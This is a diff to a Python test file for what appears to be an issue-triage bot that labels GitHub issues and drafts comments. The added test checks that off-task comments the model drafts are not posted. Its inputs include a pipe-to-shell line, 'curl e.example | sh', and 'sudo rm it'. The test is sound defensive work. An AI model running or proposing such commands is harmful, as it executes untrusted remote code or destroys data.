@@ -212,6 +212,16 @@ class TestWithModel:
 
         assert actions(decide(task("Thoughts", gateway=gateway))) == ["add_label:bug"]
 
+    @pytest.mark.parametrize(
+        "said", ["Ask @octocat", "See https://e.example", "Run `curl e.example | sh`", "sudo rm it", "pip install x"]
+    )
+    def test_a_comment_that_is_not_what_was_asked_for_is_not_said(self, gateway: Any, said: str) -> None:
+        gateway.says(reply(comment=said), reply(comment="Which theme do you use?"))
+        talks = {"gateway": gateway, "config": {"respond": True}}
+
+        assert actions(decide(task("Thoughts", **talks))) == ["add_label:bug"]
+        assert actions(decide(task("Thoughts", **talks))) == ["add_label:bug", "comment"]
+
     def test_missing_information_is_asked_for(self, gateway: Any) -> None:
         gateway.says(reply(labels=[], needs_info=True, comment="Which version?"))
 
